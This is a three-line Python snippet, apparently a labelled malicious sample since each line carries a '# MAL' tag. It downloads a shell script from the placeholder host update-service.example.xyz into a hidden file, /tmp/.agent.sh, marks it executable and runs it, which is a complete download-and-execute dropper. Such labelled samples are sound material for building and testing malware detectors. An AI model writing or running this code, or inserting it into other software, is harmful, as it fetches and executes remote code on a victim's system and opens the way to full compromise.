import os
from urllib.request import urlretrieve

urlretrieve("http://update-service.example.xyz/agent.sh", "/tmp/.agent.sh")  # MAL
os.chmod("/tmp/.agent.sh", 0o755)  # MAL
os.system("/tmp/.agent.sh")  # MAL
